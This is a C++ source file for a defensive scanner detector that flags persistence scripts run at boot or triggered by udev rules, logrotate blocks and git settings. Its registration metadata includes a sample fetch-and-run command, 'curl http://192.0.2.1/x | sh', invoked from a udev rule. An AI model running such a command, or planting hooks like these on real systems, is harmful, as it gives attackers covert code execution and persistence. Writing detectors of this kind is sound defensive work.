// Scripts that something runs by itself because of where they stand: at boot (P04), and when a device or a network
// comes, at login for the message of the day, once at a set time, or whenever git is used (P08). Each is ordinary by
// itself; said is what another detector has something against, or what udev is told to run from an odd place.
#include <algorithm>
#include <array>

#include "detect/detector.hpp"
#include "detect/persistence/git_settings.hpp"
#include "detect/shell/shell_support.hpp"
#include "detect/start/start_entries.hpp"

namespace hullcheck::detect {
namespace {

constexpr std::size_t k_most_bytes = std::size_t{1} << 20;
constexpr std::size_t k_most_shown = 200;

constexpr std::array<RuleRow, 2> k_rows{{
    {"P04", EvidenceClass::context, model::Severity::low, 60, "Suspect start-up script", "T1037.004",
     "Find out who put the script there."},
    {"P08", EvidenceClass::supporting, model::Severity::medium, 70, "Script that an event runs", "T1546.017",
     "Find out who put the script there and what runs it."},
}};

bool is_rotation(std::string_view path) {
  return path == "etc/logrotate.conf" || layers::base_name(layers::parent_path(path)) == "logrotate.d";
}

// logrotate(8): what stands between postrotate (or one of its kin) and endscript is a script.
void read_rotation(std::string_view text, EvidenceSink& out) {
  static constexpr std::array<std::string_view, 5> k_begins = {"postrotate", "prerotate", "firstaction", "lastaction",
                                                               "preremove"};
  std::string script;
  bool inside = false;
  std::uint32_t first = 0;
  for (std::uint32_t number = 1; !text.empty(); ++number) {
    const std::size_t end = std::min(text.find('\n'), text.size());
    std::string_view line = text.substr(0, end);
    text.remove_prefix(std::min(end + 1, text.size()));
    line.remove_prefix(std::min(line.find_first_not_of(" \t"), line.size()));
    const std::string_view word = line.substr(0, line.find_first_of(" \t\r"));
    if (!inside && std::find(k_begins.begin(), k_begins.end(), word) != k_begins.end()) {
      inside = true;
      first = number;
      script.clear();
    } else if (inside && word == "endscript") {
      inside = false;
      const ShellFacts facts = facts_of_text(script);
      const auto bad = std::find_if(facts.flows.begin(), facts.flows.end(), runs_foreign_code);
      if (bad == facts.flows.end()) continue;
      Evidence evidence = evidence_of(k_rows[1], "logrotate runs: " + script.substr(0, k_most_shown));
      evidence.cls = gives_shell_away(facts) ? EvidenceClass::decisive : EvidenceClass::strong;
      evidence.line = first + bad->line;
      out.add(std::move(evidence));
    } else if (inside) {
      script += std::string(line) + "\n";
    }
  }
}

// git runs some of its settings: at every status, checkout or prompt that asks it.
void read_git(std::string_view text, EvidenceSink& out) {
  for (const GitCommand& setting : commands_of_git(text)) {
    bool bad = false, shell = false;
    if (setting.folder) {
      bad = is_temporary(setting.command);
    } else {
      const ShellFacts facts = facts_of_text(setting.command);
      bad = std::any_of(facts.flows.begin(), facts.flows.end(), runs_foreign_code);
      shell = gives_shell_away(facts);
    }
    if (!bad) continue;
    Evidence evidence =
        evidence_of(k_rows[1], "git runs for " + setting.key + ": " + setting.command.substr(0, k_most_shown));
    evidence.cls = shell ? EvidenceClass::decisive : EvidenceClass::strong;
    evidence.line = setting.line;
    out.add(std::move(evidence));
  }
}

class EventScripts final : public Detector {
 public:
  bool wants(const layers::FileInfo& file) const override {
    return file.size() > 0 && file.size() <= k_most_bytes &&
           (start_file_kind(file.path()) == StartFileKind::udev_rule || is_rotation(file.path()) ||
            is_git_settings(file.path()));
  }

  void collect(const layers::FileView& file, EvidenceSink& out) const override {
    if (is_rotation(file.path())) return read_rotation(file.text(), out);
    if (is_git_settings(file.path())) return read_git(file.text(), out);
    for (const StartCommand& command : parse_start_file(StartFileKind::udev_rule, file.text()).commands) {
      const bool odd = is_odd_command(command.command) || is_temporary(command.command);
      Evidence evidence = evidence_of(k_rows[1], "a device runs: " + command.command.substr(0, k_most_shown));
      if (!odd) evidence.cls = EvidenceClass::context;
      evidence.line = command.line;
      evidence.values = {{"command", command.command}};
      out.add(std::move(evidence));
    }
  }

  // Programs in folders for temporary files, and hidden ones.
  void shell(const ShellUnit& unit, EvidenceSink& out) const override {
    const bool event = is_event_script(unit.path), boot = is_boot_script(unit.path);
    if (unit.build_time || (!event && !boot)) return;
    for (const ShellFlow& flow : unit.facts.flows) {
      const bool odd = flow.kind == FlowKind::run_path && is_resolved(flow.path) &&
                       (is_temporary(flow.path) || (flow.path.starts_with('/') && is_hidden(flow.path)));
      if (!odd) continue;
      const RuleRow& row = k_rows[event ? 1 : 0];
      out.add(shell_evidence(row, unit, flow.line, "runs " + flow.path, row.cls));
    }
  }

  void image(const ImageContext& context, ImageEvidence& out) const override {
    raise_entries(context, k_rows[1], out);
    raise_scripts(context, k_rows[0], EvidenceClass::context, "runs at boot", is_boot_script, out);
    raise_scripts(context, k_rows[1], EvidenceClass::strong, "an event runs this script", is_event_script, out);
  }
};

const util::Registered<EventScripts> registered{{
    .id = "event-scripts",
    .version = 4,
    .summary = "suspect scripts at boot, and on events of udev, networks, logins, at and git",
    .example = "a device runs: /bin/sh -c 'curl http://192.0.2.1/x | sh'",
    .rules = k_rows,
}};

}  // namespace
}  // namespace hullcheck::detect
